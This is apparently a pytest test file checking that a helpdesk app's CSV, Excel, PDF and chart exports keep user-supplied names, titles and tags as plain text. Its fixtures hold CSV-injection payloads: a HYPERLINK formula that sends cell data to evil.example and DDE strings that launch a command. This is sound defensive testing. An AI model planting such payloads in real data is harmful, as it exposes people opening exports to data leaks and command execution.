"""User strings in downloads stay text: no spreadsheet formula, no mathtext, no PDF markup.

The attacks: a ticket titled ``=HYPERLINK(...)`` or a technician named ``@SUM(1+1)``
becomes a live formula when an admin opens the export (OWASP "CSV injection"); a name
such as ``$\\frac$`` makes matplotlib parse mathtext (an error, so a 500, or a picture
other than the name); ``<b>`` in a name would be markup to reportlab's ``Paragraph``.
"""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import openpyxl
import pypdf
import pytest
from matplotlib.text import Text
from reports import charts
from reports.exports.common import FORMULA_TRIGGERS, spreadsheet_csv_value
from reports.selectors import TICKET_COLUMNS

from tests.desk import Desk, at

MARCH = {"from": "2025-03-01", "to": "2025-03-31"}
HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
HOSTILE_NAME = "=cmd|' /C calc'!A0"
HOSTILE_CATEGORY = "-1+1"
HOSTILE_TAGS = ("=cmd|' /C calc'!A0", "@sum(1+1)")  # tickets lower-cases tags
HOSTILE_TEAM = '+HYPERLINK("http://evil.example/","x")'
MATH_NAMES = [r"$\frac$", "$$", "$x^2$ & <b>bold</b>"]


@pytest.fixture
def hostile(db: None) -> Desk:
    desk = Desk()
    desk.user(10, HOSTILE_NAME)
    desk.user(11, "@evil", username="@evil")
    desk.team(5, HOSTILE_TEAM, member_ids=(10,), lead_id=10)
    for day, title in enumerate(HOSTILE_TITLES, start=3):
        ticket = desk.ticket(
            at(2025, 3, day, 9, 0),
            title=title,
            category=HOSTILE_CATEGORY,
            team_id=5,
            tags=HOSTILE_TAGS[: 1 + day % 2],
        )
        ticket.assign(10 if day % 2 else 11, at(2025, 3, day, 9, 5))
        ticket.respond(at(2025, 3, day, 10, 0)).resolve(at(2025, 3, day, 12, 0))
        # Answered, so names, the team and the category reach the satisfaction tables.
        ticket.rate("good" if day % 2 else "bad", at(2025, 3, day, 13, 0), comment="=1+1")
    desk.apply()
    return desk


@pytest.fixture
def mathy(db: None) -> Desk:
    desk = Desk()
    for user_id, name in enumerate(MATH_NAMES, start=20):
        desk.user(user_id, name)
        desk.team(user_id, name)
        ticket = desk.ticket(
            at(2025, 3, user_id - 15, 9, 0),
            title=name,
            category="network",
            team_id=user_id,
            tags=(name,),
        )
        ticket.assign(user_id, at(2025, 3, user_id - 15, 9, 5))
    desk.apply()
    return desk


# --- the rule ----------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*HOSTILE_TITLES, HOSTILE_NAME, "@evil", "\r", "="])
def test_the_rule_quotes_every_text_a_spreadsheet_would_read_as_a_formula(text: str) -> None:
    assert text.startswith(FORMULA_TRIGGERS)
    assert spreadsheet_csv_value(text) == "'" + text


@pytest.mark.parametrize("value", ["Printer", " =1", "SD-1001", "", None, -3, -2.5, 0, 7])
def test_the_rule_leaves_plain_text_and_numbers_alone(value: Any) -> None:
    assert spreadsheet_csv_value(value) == value


# --- CSV ---------------------------------------------------------------------------------


def test_csv_cells_a_user_controls_are_never_formulas(hostile: Desk, api: Any) -> None:
    content = b"".join(api("export.csv", **MARCH).streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(content, newline="")))
    assert [row["title"] for row in rows] == ["'" + title for title in HOSTILE_TITLES]
    assert {row["category"] for row in rows} == {"'" + HOSTILE_CATEGORY}
    assert {row["assignee_name"] for row in rows} == {"'" + HOSTILE_NAME, "'@evil"}
    assert {row["team_name"] for row in rows} == {"'" + HOSTILE_TEAM}
    # Tags are a JSON array: it starts with "[", and reads back as the tags exactly.
    assert {row["tags"][0] for row in rows} == {"["}
    assert {tuple(json.loads(row["tags"])) for row in rows} == {HOSTILE_TAGS[:1], HOSTILE_TAGS}
    for row in rows:
        # Numbers stay plain numbers: no quote in front of hours or counts.
        assert re.fullmatch(r"\d+\.\d{4}", row["resolution_hours"]), row
        assert row["reopen_count"] == "0"
        assert row["rating"] in {"good", "bad"}
    assert list(rows[0]) == [column.key for column in TICKET_COLUMNS]


# --- Excel -------------------------------------------------------------------------------


def test_xlsx_cells_a_user_controls_are_strings_never_formulas(hostile: Desk, api: Any) -> None:
    response = api("export.xlsx", **MARCH, lang="en")
    assert response.status_code == 200
    wb = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))

    tickets = wb["Tickets"]
    header = [cell.value for cell in tickets[1]]
    at_title, at_name = header.index("Title"), header.index("Technician")
    at_category, at_reopened = header.index("Category"), header.index("Reopened (times)")
    data = list(tickets.iter_rows(min_row=2))
    assert [row[at_title].value for row in data] == HOSTILE_TITLES
    for row in data:
        for cell in (row[at_title], row[at_name], row[at_category]):
            assert cell.data_type == "s", cell.value
            assert cell.quotePrefix, cell.value  # Excel keeps it text even when edited
        assert row[at_category].value == HOSTILE_CATEGORY
        assert row[at_reopened].data_type == "n"

    at_team, at_tags = header.index("Team"), header.index("Tags")
    for row in data:
        assert row[at_team].value == HOSTILE_TEAM
        assert row[at_tags].value in {HOSTILE_TAGS[0], ", ".join(HOSTILE_TAGS)}
        for cell in (row[at_team], row[at_tags]):
            assert cell.data_type == "s", cell.value
            assert cell.quotePrefix, cell.value

    teams = list(wb["By team"].iter_rows(min_row=2))
    assert [row[0].value for row in teams] == [HOSTILE_TEAM]
    assert teams[0][0].quotePrefix
    assert teams[0][3].value == HOSTILE_NAME  # the lead
    assert teams[0][3].quotePrefix
    assert teams[0][4].data_type == "n"
    tags = list(wb["By tag"].iter_rows(min_row=2))
    assert [(row[0].value, row[1].value) for row in tags] == [
        (HOSTILE_TAGS[0], len(HOSTILE_TITLES)),
        (HOSTILE_TAGS[1], len(HOSTILE_TITLES) // 2),
    ]
    for row in tags:
        assert row[0].data_type == "s"
        assert row[0].quotePrefix
        assert row[1].data_type == "n"

    technicians = wb["By technician"]
    rows = list(technicians.iter_rows(min_row=2))
    assert {row[0].value for row in rows} == {HOSTILE_NAME, "@evil"}
    for row in rows:
        assert row[0].data_type == "s"
        assert row[0].quotePrefix
        assert all(cell.data_type == "n" for cell in row[2:6])

    satisfaction = list(wb["Satisfaction"].iter_rows(min_row=2))
    assert [(row[0].value, row[1].value) for row in satisfaction] == [
        ("Technician", HOSTILE_NAME),  # by name: "=" sorts before "@"
        ("Technician", "@evil"),
        ("Team", HOSTILE_TEAM),
        ("Category", HOSTILE_CATEGORY),
    ]
    for row in satisfaction:
        assert row[1].data_type == "s"
        assert row[1].quotePrefix, row[1].value
        assert all(cell.data_type == "n" for cell in row[3:])

    # Every sheet: not one formula anywhere.
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            assert all(cell.data_type != "f" for cell in row), ws.title


def test_xlsx_negative_numbers_stay_numbers_in_the_summary(hostile: Desk, api: Any) -> None:
    response = api("export.xlsx", **MARCH, lang="en", category=HOSTILE_CATEGORY)
    assert response.status_code == 200
    wb = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = {row[0].value: row[1] for row in wb["Summary"].iter_rows(min_row=2)}
    assert cells["Tickets created"].data_type == "n"
    assert cells["Tickets created"].value == len(HOSTILE_TITLES)
    category = cells[f"Category: {HOSTILE_CATEGORY}"]
    assert category.data_type == "n"
    assert category.value == len(HOSTILE_TITLES)


# --- charts and PDF ----------------------------------------------------------------------


@pytest.mark.parametrize("name", list(charts.CHARTS))
def test_no_chart_text_is_parsed_as_mathtext(mathy: Desk, api: Any, name: str) -> None:
    summary = api("summary/", **MARCH, lang="en").json()
    fig = charts.figure(name, summary, dpi=50)
    fig.canvas.draw()  # ticks and their labels exist once drawn
    texts = fig.findobj(Text)
    assert texts
    assert not [text.get_text() for text in texts if text.get_parse_math() or text.get_usetex()]


@pytest.mark.parametrize("chart", ["technicians", "teams"])
def test_names_with_dollars_render_literally_in_svg_and_png(
    mathy: Desk, api: Any, chart: str
) -> None:
    svg = api(f"charts/{chart}.svg", **MARCH, lang="en")
    assert svg.status_code == 200
    content = svg.content.decode()
    for name in MATH_NAMES:
        escaped = name.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        assert escaped in content, name
    assert api(f"charts/{chart}.png", **MARCH).status_code == 200


def test_pdf_shows_math_and_markup_names_as_text(mathy: Desk, api: Any) -> None:
    response = api("export.pdf", **MARCH, lang="en")
    assert response.status_code == 200
    reader = pypdf.PdfReader(io.BytesIO(response.content))
    text = "\n".join(page.extract_text() for page in reader.pages)
    for name in MATH_NAMES:
        # Title, technician, team and tag: each drawn as typed.
        assert text.count(name) >= 3, name


def test_pdf_filter_line_with_markup_is_text(db: None, api: Any) -> None:
    desk = Desk()
    desk.user(30, "<b>Boss</b> & <i>co</i>")
    desk.ticket(at(2025, 3, 4, 9, 0), title="x").assign(30, at(2025, 3, 4, 9, 5))
    desk.apply()
    response = api("export.pdf", **MARCH, lang="en", assignee_id="30")
    assert response.status_code == 200
    reader = pypdf.PdfReader(io.BytesIO(response.content))
    assert "Technician: <b>Boss</b> & <i>co</i>" in reader.pages[0].extract_text()


def test_a_hostile_tag_as_a_filter_is_text_everywhere(hostile: Desk, api: Any) -> None:
    params = {**MARCH, "lang": "en", "tag": HOSTILE_TAGS[1], "team_id": "5"}
    summary = api("summary/", **params).json()
    assert summary["totals"]["created"] == len(HOSTILE_TITLES) // 2
    assert summary["filters"]["tag"] == [HOSTILE_TAGS[1].lower()]
    response = api("export.xlsx", **params)
    wb = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    filters = [row[1] for row in wb["Summary"].iter_rows(min_row=2) if row[0].value == "Filter"]
    assert [cell.value for cell in filters] == [f"Team: {HOSTILE_TEAM}", f"Tags: {HOSTILE_TAGS[1]}"]
    pdf = pypdf.PdfReader(io.BytesIO(api("export.pdf", **params).content))
    assert f"Team: {HOSTILE_TEAM}" in pdf.pages[0].extract_text()
